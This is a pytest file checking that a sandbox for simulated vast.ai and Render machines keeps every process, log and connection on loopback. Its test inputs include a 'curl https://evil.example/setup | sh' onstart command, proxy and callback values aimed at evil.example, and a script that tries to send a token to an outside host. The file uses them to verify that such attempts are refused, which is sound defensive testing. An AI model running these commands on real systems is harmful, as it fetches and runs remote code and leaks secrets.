"""The sandbox uses loopback only: its output, its processes, and what a process in it attempts regardless."""

from __future__ import annotations

import ast
import contextlib
import json
import os
import re
import sys
from collections.abc import Iterator, Mapping
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import requests

from ert_deploy.sandbox.runtime.loopback import on_loopback
from ert_deploy.sandbox.vast.options import Options
from ert_deploy.sandbox.world.seed_env import unrelated_env
from tests.support.loopback.finder import elsewhere, environ, in_value, session
from tests.support.render.world import running
from tests.support.vast.world import KEY, PACE, PROGRAM, Renter, renting, until

ROOT = Path(__file__).resolve().parents[2]
SANDBOX = ROOT / "ert_deploy" / "sandbox"
PORT = {"-p 8443:8443": "1"}
HOSTILE = {
    "ERT_VAST_API": "https://console.vast.ai",
    "HTTP_PROXY": "http://proxy.evil.example:3128",
    "https_proxy": "http://127.0.0.1:3128",
    "ALL_PROXY": "socks5://proxy.evil.example",
    "ERT_BIND": "0.0.0.0:8443",
    "OLLAMA_HOST": "ollama.evil.example:11434",
    "PUBLIC_IPADDR": "203.0.113.7",
    "DB_HOST": "db.evil.example",
    "BROKERS": "a.evil.example:9092,203.0.113.8:9092",
    "CALLBACK": 'then tell {"url": "https://user:pw@evil.example/x?y=1"} and me@evil.example',
    "PYTHONPATH": "/nowhere",
    "ERT_SANDBOX_REFUSED": "/nowhere/else.log",
    **PORT,
}
NAMED = {"render/images.py": {"docker.io"}}  # the registry in the name of an image, as recorded; nothing is pulled
PAIR = f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {PROGRAM!r}])\n{PROGRAM}"
RUNTYPES = ("args", "ssh", "ssh_direct", "ssh_proxy", "jupyter", "jupyter_direct", "jupyter_proxy")
SDK: Mapping[str, Mapping[str, Any]] = {
    "plain": {},
    "args": {"runtype": "args", "args": ["serve", "--peer", "https://evil.example"]},
    "ssh": {"ssh": True},
    "ssh direct": {"ssh": True, "direct": True},
    "jupyter": {"jupyter": True, "direct": True},
    "onstart": {"ssh": True, "onstart_cmd": "curl https://evil.example/setup | sh"},
    "interruptible": {"bid_price": 0.9},
}


@pytest.fixture(scope="module")
def rented() -> Iterator[tuple[Renter, list[int]]]:
    """Yield every kind of machine, created by the SDK and by raw requests; all of them run."""
    with renting(command=[sys.executable, "-c", PAIR], credit=500.0, bad_hosts=False) as renter:
        found = renter.sdk.search_offers({}, order="dph_total", storage=40)
        offers = iter([offer["id"] for offer in found if offer["cpu_arch"] == "amd64"])
        made = [_by_sdk(renter, next(offers), hostile, more) for hostile in (False, True) for more in SDK.values()]
        made += [renter.rent(next(offers), runtype=kind, env=dict(HOSTILE), image="img:1") for kind in RUNTYPES]
        made.append(_bare(renter, next(offers)))
        made.append(renter.rent(next(offers), env=dict(HOSTILE), image="img:1", target_state="stopped"))
        renter.until(made[-1], "created")
        renter.sdk.start_instance(made[-1])
        for id in made:
            until(partial(_runs, renter, id), 30.0)
        stopped, rebooted, recycled = made[-2], made[1], made[-3]
        first = renter.double.pids()
        renter.sdk.stop_instance(stopped)
        renter.until(stopped, "exited")
        renter.sdk.start_instance(stopped)
        renter.sdk.reboot_instance(rebooted)
        renter.sdk.recycle_instance(recycled)
        for id in (stopped, rebooted, recycled):
            until(partial(_runs_anew, renter, id, first[id]), 30.0)
        for id in made:
            until(partial(_has_a_child, renter, id), 30.0)
        yield renter, made


def _runs(renter: Renter, id: int) -> bool:
    return renter.status(id) == "running"


def _runs_anew(renter: Renter, id: int, before: int) -> bool:
    return renter.double.pids().get(id, before) != before


def _has_a_child(renter: Renter, id: int) -> bool:
    return len(list(session(renter.double.pids()[id]))) == 2


def _is_there(url: str) -> bool:
    return requests.get(url, timeout=10).status_code == 200


def _by_sdk(renter: Renter, offer: int, hostile: bool, more: Mapping[str, Any]) -> int:
    given = {"env": dict(HOSTILE)} if hostile else {}
    made = renter.sdk.create_instance(offer, image="img:1", disk=10, cancel_unavail=True, **given, **more)
    return int(made["new_contract"])


def _bare(renter: Renter, offer: int) -> int:
    """Create an instance with the smallest possible request."""
    answer = renter.put(f"/asks/{offer}/", {"image": "img:1"})
    return int(answer.json()["new_contract"])


def test_every_machine_finds_the_provider_on_loopback_and_nothing_elsewhere(rented: tuple[Renter, list[int]]) -> None:
    renter, made = rented
    pids = renter.double.pids()
    assert sorted(pids) == sorted(made)
    for id in made:
        for env in (environ(pid) for pid in session(pids[id])):
            assert env["ERT_VAST_API"] == renter.double.url, renter.row(id)["image_runtype"]
            assert in_value(env) == set(), id
            assert not [name for name in env if name.lower().endswith("_proxy")]
            assert env["ERT_BIND"].startswith("127.0.0.1:")
            first = env["PYTHONPATH"].split(os.pathsep)[0]
            assert (Path(first) / "sitecustomize.py").is_file()


def test_all_that_the_provider_shows_is_on_loopback(rented: tuple[Renter, list[int]]) -> None:
    renter, made = rented
    answers = [renter.get(f"/v0/instances/{id}/", owner="me") for id in made]
    answers += [renter.get("/v1/instances/", limit=25), renter.get("/v0/users/current/")]
    answers.append(
        requests.post(f"{renter.double.url}/api/v0/bundles/", json={"limit": 500}, headers=_key(), timeout=10)
    )
    for id in made:
        answers.append(renter.put(f"/instances/request_logs/{id}/", {"tail": "1000"}))
        answers.append(renter.put(f"/instances/request_logs/{id}/", {"daemon_logs": "true"}))
    answers.append(renter.put(f"/instances/command/{made[0]}/", {"command": "ls"}))
    for answer in answers:
        assert answer.status_code == 200, answer.text
        assert in_value(answer.json()) == set()
    assert {"203.0.113.7"} == elsewhere("203.0.113.7"), "the finder finds"
    logs = [body["result_url"] for body in (answer.json() for answer in answers) if "result_url" in body]
    assert len(logs) == 2 * len(made) + 1
    for url in logs:
        until(partial(_is_there, url))
        assert elsewhere(requests.get(url, timeout=10).text) == set()
    assert json.loads(renter.sdk.logs(made[0], tail="1"))["ERT_VAST_API"] == renter.double.url


def _key() -> dict[str, str]:
    return {"Authorization": f"Bearer {KEY}"}


def test_an_order_that_stays_on_loopback_is_shown_as_it_was_given(rented: tuple[Renter, list[int]]) -> None:
    kept = {
        "ERT_VAST_API": "http://127.0.0.1:5",
        "AT": "12:30:45",
        "MODEL": "gpt-oss:20b",
        "APP": "wsgi.app",
        "V": "3.11.9",
    }
    kept |= {"NETS": "10.0.0.0/8", "B": "https://[::1]:80/x", "F": "file:///etc/x", "L": "localhost:1", **PORT}
    assert {name: on_loopback(value, name) for name, value in kept.items()} == kept


# An audit hook that replaces the resolver: it resolves no name and records the requested ones.
RESOLVER = """
import json, os, sys
def hook(event, args):
    if event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.connect"):
        host = args[1] if event == "socket.connect" else args[0]
        host = host[0] if isinstance(host, tuple) else host
        with open(os.environ["ASKED_FOR"], "a") as file:
            file.write(f"{host}\\n")
        if str(host) not in ("None", "127.0.0.1", "localhost", "::1", "0.0.0.0"):
            raise OSError(f"no such host: {host}")
sys.addaudithook(hook)
"""


def test_the_real_guard_of_a_strangers_machine_asks_the_double_and_nobody_else(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text(RESOLVER)
    path = os.pathsep.join((str(tmp_path), str(ROOT / "images" / "llm-backend"), str(ROOT)))
    extra = {"PYTHONPATH": path, "ASKED_FOR": str(tmp_path / "asked")}
    rules = {"ERT_BOOT_DEADLINE": "400", "ERT_TOKEN": "0" * 32, "ERT_VAST_API": "https://console.vast.ai"}
    guard = [sys.executable, "-m", "ert_backend.guard"]
    with renting(command=guard, machine_env=extra) as renter:
        id = renter.rent(env={**PORT, **rules, "HTTPS_PROXY": "http://proxy.evil.example:1"}, image="img:1")
        until(lambda: renter.status(id) == "running")
        seen: list[dict[str, str]] = []
        log = ""

        def destroyed_by_itself() -> bool:
            nonlocal log
            pid = renter.double.pids().get(id)
            seen.extend(environ(one) for one in (session(pid) if pid else ()))
            with contextlib.suppress(OSError):
                log = renter.double._estate.machines.log(id).read_text()
            return id not in [row["id"] for row in renter.double.instances()]

        until(destroyed_by_itself, 20.0)
        refused = _refused(renter)
    asked = set((tmp_path / "asked").read_text().split())
    assert {host for host in asked if elsewhere(host)} == set()
    assert "127.0.0.1" in asked
    assert refused == []
    assert (elsewhere(log), in_value(seen)) == (set(), set())
    assert {env["ERT_VAST_API"] for env in seen if env} == {renter.double.url}
    assert "unclaimed" in log


def _refused(renter: Renter) -> list[dict[str, Any]]:
    file = renter.double._estate.machines._directory / "refused-connections.log"
    return [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []


TRIES = """
import json, os, socket, subprocess, sys, tempfile, urllib.request
def attempt(what):
    try:
        what()
    except OSError as error:
        return type(error).__name__
    return "went through"
def udp(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", (host, 53))
def tcp(host, family=socket.AF_INET, port=443):
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect((host, port))
def bound(host):
    with socket.socket() as s:
        s.bind((host, 0))
        return s.getsockname()[0]
def everywhere():
    assert {bound("0.0.0.0"), bound("")} == {"127.0.0.1"}
    for alone, host in ((1, "::1"), (0, "::ffff:127.0.0.1")):
        with socket.socket(socket.AF_INET6) as s:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, alone)
            s.bind(("::", 0))
            assert s.getsockname()[0] == host
def unix():
    with tempfile.TemporaryDirectory() as d, socket.socket(socket.AF_UNIX) as a, socket.socket(socket.AF_UNIX) as b:
        a.bind(d + "/s"); a.listen(); b.connect(d + "/s")
def home():
    with socket.socket() as a:
        a.bind(("127.0.0.1", 0)); a.listen()
        for host in ("127.0.0.1", "localhost"):
            socket.create_connection((host, a.getsockname()[1])).close()
tries = {
    "resolve": lambda: socket.getaddrinfo("console.vast.ai", 443),
    "resolve old": lambda: socket.gethostbyname("one.evil.example"),
    "reverse": lambda: socket.gethostbyaddr("203.0.113.9"),
    "http": lambda: urllib.request.urlopen("https://two.evil.example/?token=hunter2", timeout=2),
    "tcp": lambda: tcp("203.0.113.9"),
    "tcp name": lambda: tcp("three.evil.example"),
    "tcp any": lambda: tcp("0.0.0.0"),
    "tcp6": lambda: tcp("2001:db8::1", socket.AF_INET6),
    "mapped": lambda: tcp("::ffff:203.0.113.9", socket.AF_INET6),
    "udp": lambda: udp("203.0.113.9"),
    "bind name": lambda: bound("four.evil.example"),
    "home": home, "unix": unix, "bind any": everywhere,
    "look up any": lambda: socket.getaddrinfo(None, 80),
}
out = {name: attempt(what) for name, what in tries.items()}
if len(sys.argv) == 1:
    child = subprocess.run([sys.executable, __file__, "child"], capture_output=True, text=True, check=True)
    print(json.dumps([out, json.loads(child.stdout)]), flush=True)
    import signal; signal.pause()
print(json.dumps(out))
"""
ALLOWED = {"home", "unix", "bind any", "look up any"}


def test_what_a_machine_tries_elsewhere_is_refused_and_written_down_without_secrets(tmp_path: Path) -> None:
    script = tmp_path / "tries.py"
    script.write_text(TRIES)
    with renting(command=[sys.executable, str(script)]) as renter:
        id = renter.running(env={}, image="img:1")
        until(lambda: renter.sdk.logs(id, tail="1").strip() != "", 20.0)
        machine, child = json.loads(renter.sdk.logs(id, tail="1"))
        lines = _refused(renter)
    for outcome in (machine, child):
        through = {name for name, what in outcome.items() if what == "went through"}
        assert through == ALLOWED
        assert outcome["resolve"] == outcome["tcp"] == "PermissionError"
    assert len({line["pid"] for line in lines}) == 2
    assert {(line["what"], line["host"]) for line in lines} >= {
        ("getaddrinfo", "console.vast.ai"),
        ("gethostbyname", "one.evil.example"),
        ("connect", "203.0.113.9"),
        ("sendto", "203.0.113.9"),
        ("bind", "four.evil.example"),
        ("connect", "three.evil.example"),
        ("getaddrinfo", "two.evil.example"),
        ("connect", "2001:db8::1"),
    }
    assert "hunter2" not in json.dumps(lines)


def test_a_sitecustomize_that_was_there_before_still_runs(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import sys\nsys.was_here = True\n")
    show = "import sys\nprint(getattr(sys, 'was_here', False), flush=True)"
    with renting(command=[sys.executable, "-c", show], machine_env={"PYTHONPATH": str(tmp_path)}) as renter:
        id = renter.rent(image="img:1")
        until(lambda: renter.sdk.logs(id, tail="1").strip() == "True")


@pytest.mark.parametrize(
    "trouble",
    [
        {"kind": "machine_env", "env": {"ERT_VAST_API": "https://console.vast.ai"}},
        {"kind": "machine_env", "env": {"http_proxy": "http://127.0.0.1:3128"}},
        {"kind": "ip_changes", "to": "203.0.113.9"},
        {"kind": "row", "set": {"ssh_host": "ssh5.vast.ai"}},
    ],
)
def test_a_trouble_that_leads_off_loopback_is_refused(trouble: dict[str, Any]) -> None:
    with renting() as renter, pytest.raises(ValueError, match=r"is not on loopback: .+; hint: use"):
        renter.double.trouble(trouble)


def test_options_that_lead_off_loopback_are_refused() -> None:
    assert Options(pace=PACE, machine_env={"ERT_VAST_API": "http://127.0.0.1:9"})
    with pytest.raises(ValueError, match="machine_env is not on loopback: ERT_VAST_API"):
        Options(machine_env={"ERT_VAST_API": "https://console.vast.ai"})


def test_a_web_service_is_shown_and_runs_on_loopback_and_keeps_what_a_client_wrote() -> None:
    plain = {k: v for k, v in HOSTILE.items() if not k.startswith("-") and k != "PYTHONPATH"}
    with running() as world:
        _all_on_loopback(world)
        seen = [{"key": key, "value": value} for key, value in plain.items()]
        assert world.call("PUT", "{s}/env-vars", json=seen).status_code == 200
        repo = {"repo": "https://github.com/me/mine"}
        assert in_value(world.call("PATCH", "{s}", json=repo).json()) == set()
        assert world.ended(world.deploy().json()["id"]) == "live"
        pids = [one["pid"] for one in world.double.inspect()["services"][0]["instances"]]
        for env in (environ(pid) for leader in pids for pid in session(leader)):
            assert in_value({name: value for name, value in env.items() if name not in plain}) == set()
            assert not [name for name in env if name.lower().endswith("_proxy")]
            assert (Path(env["PYTHONPATH"].split(os.pathsep)[0]) / "sitecustomize.py").is_file()
        rows = world.get("{s}/env-vars", limit=100)
        assert {row["envVar"]["key"]: row["envVar"]["value"] for row in rows} == plain
        answering = world.seen()["env"]
        assert answering["RENDER_GIT_REPO_SLUG"] == "me/mine"
        dropped = [name for name, value in plain.items() if answering.get(name) != value]
        assert sorted(dropped) == ["ALL_PROXY", "ERT_SANDBOX_REFUSED", "HTTP_PROXY", "https_proxy"]


def _all_on_loopback(world: Any) -> None:
    since = {"startTime": "2020-01-01T00:00:00Z", "limit": 100}
    logs = {"ownerId": world.double.owner_id, "resource": world.service}
    paths = ("/services", "{s}", "/users", "/owners", "{s}/deploys", "{s}/env-vars", "{s}/instances", "/env-groups")
    for path in paths:
        assert in_value(world.get(path)) == set(), path
    assert in_value(world.get("{s}/events", **since)) == set()
    assert in_value(world.get("/logs", **logs)) == set()
    assert in_value(world.seen()) == set()


def test_the_service_of_a_world_begins_on_loopback() -> None:
    assert in_value(unrelated_env(1)) == set()


@pytest.mark.parametrize("path", sorted(SANDBOX.rglob("*.py")), ids=lambda p: str(p.relative_to(SANDBOX)))
def test_no_string_in_the_sandboxs_code_names_a_host(path: Path) -> None:
    tree = ast.parse(path.read_text())
    docs = {
        id(node.body[0].value)
        for node in ast.walk(tree)
        if isinstance(node, ast.Module | ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef)
        and node.body
        and isinstance(node.body[0], ast.Expr)
    }
    texts = [
        node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in docs
    ]
    # Regular expressions match hosts and contain none.
    found = {host for text in texts if not re.search(r"\(\?|\[\^", text) for host in elsewhere(text)}
    assert found == NAMED.get(str(path.relative_to(SANDBOX)), set())
